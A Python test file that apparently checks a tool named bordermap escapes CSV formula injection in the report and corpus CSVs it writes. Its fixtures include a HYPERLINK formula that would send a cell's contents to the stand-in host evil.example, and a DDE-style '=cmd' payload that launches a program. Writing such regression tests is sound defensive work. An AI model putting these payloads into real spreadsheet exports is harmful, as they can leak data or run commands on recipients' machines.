"""CSV formula injection (issue 24): every CSV bordermap writes neutralises cells a spreadsheet would run.

A real ``bordermap report`` and a real ``bordermap corpus`` run on articles whose first sentence, id and
source begin with ``=``, ``+``, ``-`` or ``@``; every cell of every CSV written is read back.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import bordermap
from bordermap._csvcells import _NUMBER, FORMULA_STARTS

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TEXT = "Lithuania and Belarus share a border of 680 km. Migrants crossed near Druskininkai, 20 km away."


def _cells(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def _no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for col, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS) or _NUMBER.fullmatch(cell), (col, cell)


def test_report_claims_csv_neutralises_formulas(tmp_path):
    art = tmp_path / "arts" / "evil.txt"
    art.parent.mkdir()
    art.write_text(f" date 2021-07-12 {FORMULA} says so. @SUM(1+1) -cmd +x {TEXT}", encoding="utf-8")
    rep = bordermap.run_report(art, out=tmp_path / "out", countries=("LTU", "BLR"))
    rows = _cells(tmp_path / "out" / "claims.csv")
    assert rows and all(r["article"].startswith("'" + FORMULA) for r in rows), rows[0]["article"]
    _no_formula(rows)
    assert rep.claims_rows()[0]["article"].startswith(FORMULA)  # the text itself is kept, only the CSV cell changes


def test_corpus_csvs_neutralise_formulas(tmp_path):
    from bordermap.corpus.run import run_corpus

    records = [
        {"id": "@id1", "date": "2021-07-12", "text": f"{FORMULA} {TEXT}", "source": "=cmd|' /C calc'!A0"},
        {"id": "-2", "date": "2021-07-13", "text": TEXT, "source": "+outlet"},
        {"id": {"bad": 1}, "text": "=1+1"},
    ]
    (tmp_path / "n.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    run_corpus([str(tmp_path / "n.jsonl")], out=tmp_path / "out", workers=1)
    seen = 0
    for name in ("mentions", "claims", "places_by_day", "border_mentions_by_day", "rejected"):
        rows = _cells(tmp_path / "out" / f"{name}.csv")
        _no_formula(rows)
        seen += sum(cell.startswith("'") for row in rows for cell in row.values())
    mentions = _cells(tmp_path / "out" / "mentions.csv")
    assert {r["article_id"] for r in mentions} == {"'@id1", "-2"}  # a plain negative number stays as it is
    assert {r["source"] for r in mentions} == {"'=cmd|' /C calc'!A0", "'+outlet"}
    assert seen > 0
